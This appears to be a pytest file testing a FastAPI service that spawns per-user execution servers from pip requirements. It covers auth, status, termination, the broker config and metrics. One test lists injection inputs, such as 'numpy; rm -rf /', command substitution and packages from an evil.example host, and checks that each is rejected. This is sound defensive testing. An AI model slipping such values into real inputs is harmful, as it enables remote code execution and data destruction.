"""Deploy API over fakes: in-memory orchestrator, static authenticator, TestClient.

Requests are shaped as the released clients send them: scidx-rexec 0.1.0 posts a form
with ``requirments`` repeated, ``token`` and ``force_reinstall`` ("True"/"False") and
deletes with a form ``token``; ndp-ep reads broker-config with its Bearer session.
"""

from __future__ import annotations

import json

import pytest
from fastapi.testclient import TestClient

from zexec.adapters.auth_static import StaticAuthenticator
from zexec.adapters.orchestrator_memory import InMemoryOrchestrator
from zexec.apps.deploy_api import build_app_from_settings, create_app
from zexec.apps.deploy_api.metrics import DeployMetrics
from zexec.core.errors import AuthUnavailable, ConfigurationError
from zexec.settings import AuthSettings, DeploySettings

TOKENS = {
    "tok-alice": {"sub": "u-alice", "username": "alice", "groups": ["/ndp/researchers"]},
    "tok-bob": {"sub": "u-bob", "username": "bob", "groups": ["researchers"]},
    "tok-eve": {"sub": "u-eve", "username": "eve", "groups": ["visitors"]},
}
BASE = ["python==3.12", "numpy>=1.26"]


def legacy_form(reqs, token="tok-alice", force=False):
    """The exact payload scidx-rexec builds (requests turns the bool into "False")."""
    return {"requirments": list(reqs), "force_reinstall": str(force), "token": token}


class DownIdP:
    def authenticate(self, token):
        raise AuthUnavailable("identity provider did not answer within 5s")


def make(orch=None, auth=None, **overrides):
    settings = DeploySettings(**{"orchestrator": "memory", "legacy_spawn_wait": 0, **overrides})
    orch = orch if orch is not None else InMemoryOrchestrator(initial_phase="ready")
    auth = auth if auth is not None else StaticAuthenticator(TOKENS)
    return create_app(settings, orch, auth), orch


@pytest.fixture
def api():
    app, orch = make()
    with TestClient(app) as client:
        yield client, orch


def bearer(token):
    return {"Authorization": f"Bearer {token}"}


# ---------------------------------------------------------------------- spawn


def test_legacy_form_spawn_returns_a_dict_with_phase_and_message(api):
    client, orch = api
    r = client.post("/rexec/spawn", data=legacy_form(BASE))
    assert r.status_code == 200
    body = r.json()
    assert body["status"] == body["phase"] == "ready"
    assert body["outcome"] == "created"
    assert "alice" in body["message"]
    assert body["env"]["python"] == "3.12"
    assert body["env"]["requirements"] == ["numpy>=1.26"]
    assert orch.servers["u-alice"].env.digest == body["env"]["digest"]


def test_same_requirements_in_any_order_is_idempotent(api):
    client, orch = api
    first = client.post("/rexec/spawn", data=legacy_form(BASE)).json()
    since = orch.servers["u-alice"].since
    r = client.post("/rexec/spawn", data=legacy_form(reversed(BASE)))
    assert r.status_code == 200
    assert r.json()["outcome"] == "unchanged"
    assert r.json()["env"]["digest"] == first["env"]["digest"]
    assert orch.servers["u-alice"].since == since


def test_different_requirements_without_force_is_409_with_advice(api):
    client, orch = api
    client.post("/rexec/spawn", data=legacy_form(BASE))
    before = orch.servers["u-alice"]
    r = client.post("/rexec/spawn", data=legacy_form(["python==3.12", "pandas"]))
    assert r.status_code == 409
    assert "force_reinstall=True" in r.json()["detail"]
    assert orch.servers["u-alice"] == before


def test_force_replaces_the_server(api):
    client, orch = api
    old = client.post("/rexec/spawn", data=legacy_form(BASE)).json()["env"]["digest"]
    r = client.post("/rexec/spawn", data=legacy_form(["python==3.12", "pandas"], force=True))
    assert r.status_code == 200
    assert r.json()["outcome"] == "replaced"
    assert orch.servers["u-alice"].env.digest != old
    assert orch.servers["u-alice"].env.requirements == ("pandas",)


def test_json_spawn_with_bearer_and_force(api):
    client, orch = api
    r = client.post("/rexec/spawn", json={"requirements": BASE}, headers=bearer("tok-bob"))
    assert r.status_code == 200 and r.json()["user"] == "bob"
    r = client.post(
        "/rexec/spawn",
        json={"requirements": ["python==3.11"], "force": True},
        headers=bearer("tok-bob"),
    )
    assert r.status_code == 200 and r.json()["env"]["python"] == "3.11"
    assert set(orch.servers) == {"u-bob"}


@pytest.mark.parametrize(
    "bad, why",
    [
        ("pkg @ https://evil.example/pkg.whl", "URL"),
        ("https://evil.example/pkg.whl", "URL"),
        ("--index-url=https://evil.example/simple", "pip option"),
        ("-e .", "pip option"),
        ("numpy; rm -rf /", "marker"),
        ("numpy`id`", "characters"),
        ("numpy $(id)", "characters"),
        ("numpy && curl x", "characters"),
    ],
)
def test_unsafe_requirements_are_422_with_the_reason(api, bad, why):
    client, orch = api
    r = client.post("/rexec/spawn", data=legacy_form(["python==3.12", bad]))
    assert r.status_code == 422, r.text
    detail = r.json()["detail"]
    assert isinstance(detail, str) and bad[:10] in detail
    assert not orch.calls


@pytest.mark.parametrize("reqs", [["numpy"], ["python>=3.11", "numpy"], ["python==3"], []])
def test_missing_or_loose_python_pin_is_422(api, reqs):
    client, orch = api
    r = client.post("/rexec/spawn", data=legacy_form(reqs))
    assert r.status_code == 422
    assert "python" in r.json()["detail"]
    assert not orch.calls


@pytest.mark.parametrize(
    "kwargs",
    [
        {"data": {**legacy_form(BASE), "force_reinstall": "maybe"}},
        {"content": b"{not json", "headers": {"content-type": "application/json"}},
        {"json": ["python==3.12"]},
        {"json": {"requirements": "python==3.12"}},
        {"json": {"requirements": BASE, "wait": -1}},
    ],
)
def test_malformed_bodies_are_422(api, kwargs):
    client, _ = api
    r = client.post("/rexec/spawn", **kwargs)
    assert r.status_code == 422
    assert r.json()["detail"]


def test_allow_unsafe_setting_accepts_direct_references():
    app, orch = make(allow_unsafe_requirements=True)
    with TestClient(app) as client:
        r = client.post(
            "/rexec/spawn", data=legacy_form(["python==3.12", "pkg @ https://example.org/p.whl"])
        )
    assert r.status_code == 200


# ---------------------------------------------------------------------- identity


@pytest.mark.parametrize("token", [None, "", "nope"])
def test_spawn_without_a_valid_token_is_401(api, token):
    client, orch = api
    data = legacy_form(BASE)
    data.pop("token")
    if token is not None:
        data["token"] = token
    r = client.post("/rexec/spawn", data=data)
    assert r.status_code == 401
    assert r.headers["www-authenticate"] == "Bearer"
    assert "token" in r.json()["detail"]
    assert not orch.calls


def test_group_restriction_is_403_with_a_message():
    app, orch = make(auth=StaticAuthenticator(TOKENS, allowed_groups="researchers"))
    with TestClient(app) as client:
        assert client.post("/rexec/spawn", data=legacy_form(BASE, "tok-bob")).status_code == 200
        r = client.post("/rexec/spawn", data=legacy_form(BASE, "tok-eve"))
        assert r.status_code == 403
        assert r.json()["detail"].startswith("forbidden")
    assert "u-eve" not in orch.servers


@pytest.mark.parametrize(
    "method, path, kwargs",
    [
        ("POST", "/rexec/spawn", {"data": legacy_form(BASE)}),
        ("DELETE", "/rexec/terminate", {"data": {"token": "tok-alice"}}),
        ("GET", "/rexec/status", {"headers": bearer("tok-alice")}),
    ],
)
def test_identity_provider_down_is_503_never_500(method, path, kwargs):
    app, orch = make(auth=DownIdP())
    with TestClient(app, raise_server_exceptions=False) as client:
        r = client.request(method, path, **kwargs)
    assert r.status_code == 503
    assert "identity provider unavailable" in r.json()["detail"]
    assert not orch.calls


def test_users_only_see_and_change_their_own_server(api):
    client, orch = api
    client.post("/rexec/spawn", data=legacy_form(BASE, "tok-bob"))
    r = client.get("/rexec/status", headers=bearer("tok-alice"))
    assert r.status_code == 404 and "alice" in r.json()["detail"]
    r = client.request("DELETE", "/rexec/terminate", data={"token": "tok-alice"})
    assert r.status_code == 200 and r.json()["terminated"] is False
    assert "u-bob" in orch.servers
    assert client.get("/rexec/status", headers=bearer("tok-bob")).json()["user"] == "bob"
    # A user id in the body or query is never used.
    client.post(
        "/rexec/spawn?user_id=u-bob", data={**legacy_form(BASE, "tok-alice"), "user_id": "u-bob"}
    )
    assert orch.servers["u-bob"].env.requirements == ("numpy>=1.26",)
    assert {c[1] for c in orch.calls if c[0] == "ensure"} == {"u-alice", "u-bob"}


# ---------------------------------------------------------------------- status / wait


def test_status_shows_phase_progress_reason_log_tail_and_env():
    app, orch = make(orch=InMemoryOrchestrator(initial_phase="pending"))
    with TestClient(app) as client:
        r = client.post("/rexec/spawn", json={"requirements": BASE}, headers=bearer("tok-alice"))
        assert r.json()["phase"] == "pending" and "poll GET /rexec/status" in r.json()["message"]
        orch.advance("u-alice", "installing", log_tail=["Resolved 3 packages", "Installing"])
        body = client.get("/rexec/status", headers=bearer("tok-alice")).json()
    assert body["phase"] == "installing"
    assert 0 < body["progress"] < 1
    assert body["log_tail"] == ["Resolved 3 packages", "Installing"]
    assert body["since"] > 0 and body["since_iso"]
    assert body["env"]["python"] == "3.12" and len(body["env"]["digest"]) == 64


class Builds(InMemoryOrchestrator):
    """Moves a new server through installing -> ``end`` as status() is polled."""

    def __init__(self, end, reason=""):
        super().__init__(initial_phase="pending")
        self.steps = [("installing", ""), (end, reason)]

    def status(self, user_id):
        if self.steps and user_id in self.servers:
            phase, reason = self.steps.pop(0)
            self.advance(user_id, phase, reason, log_tail=[f"-> {phase}"])
        return super().status(user_id)


def test_legacy_spawn_waits_until_ready():
    app, _ = make(orch=Builds("ready"), legacy_spawn_wait=600)
    with TestClient(app) as client:
        r = client.post("/rexec/spawn", data=legacy_form(BASE))
    assert r.status_code == 200 and r.json()["phase"] == "ready"


def test_legacy_spawn_reports_a_failed_build_as_422_with_the_reason():
    orch = Builds("failed", "no interpreter for python 3.12; available: 3.11")
    app, _ = make(orch=orch, legacy_spawn_wait=600)
    with TestClient(app) as client:
        r = client.post("/rexec/spawn", data=legacy_form(BASE))
    assert r.status_code == 422
    body = r.json()
    assert "available: 3.11" in body["detail"]
    assert body["phase"] == "failed" and body["log_tail"] == ["-> failed"]


def test_legacy_spawn_wait_gives_up_with_the_current_phase():
    app, _ = make(orch=InMemoryOrchestrator(initial_phase="pending"), legacy_spawn_wait=0.05)
    with TestClient(app) as client:
        r = client.post("/rexec/spawn", data=legacy_form(BASE))
    assert r.status_code == 200 and r.json()["phase"] == "pending"


# ---------------------------------------------------------------------- terminate


@pytest.mark.parametrize("how", ["form", "bearer"])
def test_terminate_with_form_token_or_bearer(api, how):
    client, orch = api
    client.post("/rexec/spawn", data=legacy_form(BASE))
    kwargs = {"data": {"token": "tok-alice"}} if how == "form" else {"headers": bearer("tok-alice")}
    r = client.request("DELETE", "/rexec/terminate", **kwargs)
    assert r.status_code == 200
    assert r.json()["terminated"] is True and r.json()["status"] == "terminated"
    assert "u-alice" not in orch.servers
    again = client.request("DELETE", "/rexec/terminate", **kwargs)
    assert again.status_code == 200 and again.json()["terminated"] is False


def test_terminate_without_token_is_401(api):
    client, _ = api
    assert client.request("DELETE", "/rexec/terminate").status_code == 401


# ---------------------------------------------------------------------- misc routes


@pytest.mark.parametrize("headers", [{}, bearer("tok-alice"), bearer("garbage")])
def test_broker_config_answers_with_or_without_a_session(headers):
    app, _ = make(broker_external_host="broker.example.org", broker_external_port=30001)
    with TestClient(app) as client:
        r = client.get("/rexec/broker-config", headers=headers)
    assert r.status_code == 200
    assert r.json() == {
        "broker_external_host": "broker.example.org",
        "broker_external_port": 30001,
        "broker_external_url": "broker.example.org:30001",
    }


def test_broker_config_offers_the_encrypted_port_and_its_pin(tmp_path):
    from zexec.adapters.transport_zmtp.tls import file_pin, make_self_signed

    cert = tmp_path / "tls.crt"
    make_self_signed(cert, tmp_path / "tls.key", ["b"])
    app, _ = make(broker_external_host="b", broker_external_port=30001,
                  broker_external_secure_port=30002, broker_tls_cert_file=str(cert))
    with TestClient(app) as client:
        body = client.get("/rexec/broker-config").json()
    assert body["broker_external_port"] == 30001  # the legacy clients' port is unchanged
    assert body["broker_external_secure_port"] == 30002
    assert body["broker_tls_sha256"] == file_pin(cert) and len(file_pin(cert)) == 64


def test_an_unreadable_broker_certificate_stops_the_start(tmp_path):
    with pytest.raises(ConfigurationError, match="BROKER_TLS_CERT_FILE"):
        make(broker_tls_cert_file=str(tmp_path / "missing.crt"))


def test_healthz_and_metrics_use_a_registry_per_app(api):
    client, _ = api
    assert client.get("/rexec/healthz").json()["status"] == "ok"
    client.post("/rexec/spawn", data=legacy_form(BASE))
    client.post("/rexec/spawn", data=legacy_form(["numpy"]))
    text = client.get("/rexec/metrics").text
    assert 'zexec_deploy_spawn_total{outcome="created"} 1.0' in text
    assert 'zexec_deploy_spawn_total{outcome="invalid"} 1.0' in text
    assert 'zexec_deploy_servers{phase="ready"} 1.0' in text
    assert 'route="/rexec/spawn"' in text
    other, _ = make()
    with TestClient(other) as c2:
        assert 'outcome="created"' not in c2.get("/rexec/metrics").text
    assert DeployMetrics().registry is not DeployMetrics().registry


@pytest.mark.parametrize("prefix, path", [("", "/spawn"), ("/api/rexec/", "/api/rexec/spawn")])
def test_prefix_is_configurable(prefix, path):
    app, _ = make(prefix=prefix)
    with TestClient(app) as client:
        assert client.post(path, data=legacy_form(BASE)).status_code == 200


def test_composition_root_builds_from_settings(tmp_path):
    token_file = tmp_path / "tokens.json"
    token_file.write_text(json.dumps(TOKENS))
    token_file.chmod(0o600)
    app = build_app_from_settings(
        DeploySettings(orchestrator="memory", legacy_spawn_wait=0),
        AuthSettings(mode="static", static_file=str(token_file)),
    )
    with TestClient(app) as client:
        r = client.post("/rexec/spawn", data=legacy_form(BASE))
        assert r.status_code == 200 and r.json()["phase"] == "ready"
        assert client.get("/rexec/status", headers=bearer("tok-alice")).json()["user"] == "alice"


def test_composition_root_selects_the_local_orchestrator(tmp_path):
    from zexec.adapters.orchestrator_local import LocalOrchestrator
    from zexec.core.errors import ConfigurationError
    from zexec.settings import BrokerSettings

    settings = DeploySettings(orchestrator="local", state_dir=str(tmp_path))
    with pytest.raises(ConfigurationError, match="ZEXEC_BROKER_SERVER_SECRET"):
        build_app_from_settings(
            settings,
            broker_settings=BrokerSettings(server_secret=""),
            authenticator=StaticAuthenticator(TOKENS),
        )
    app = build_app_from_settings(
        settings,
        broker_settings=BrokerSettings(server_secret="s"),
        authenticator=StaticAuthenticator(TOKENS),
    )
    assert isinstance(app.state.orchestrator, LocalOrchestrator)
    with TestClient(app) as client:
        assert client.get("/rexec/healthz").json()["orchestrator"] == "local"
    assert app.state.orchestrator.server_workers == 1  # the default
    app = build_app_from_settings(
        DeploySettings(orchestrator="local", state_dir=str(tmp_path), server_workers=3),
        broker_settings=BrokerSettings(server_secret="s"),
        authenticator=StaticAuthenticator(TOKENS),
    )
    assert app.state.orchestrator.server_workers == 3


def test_the_orchestrator_is_closed_when_the_app_stops():
    class Closable(InMemoryOrchestrator):
        closed = 0

        def close(self):
            self.closed += 1

    orch = Closable()
    app = build_app_from_settings(
        DeploySettings(orchestrator="memory"),
        orchestrator=orch,
        authenticator=StaticAuthenticator(TOKENS),
    )
    with TestClient(app) as client:
        client.get("/rexec/healthz")
        assert orch.closed == 0
    assert orch.closed == 1
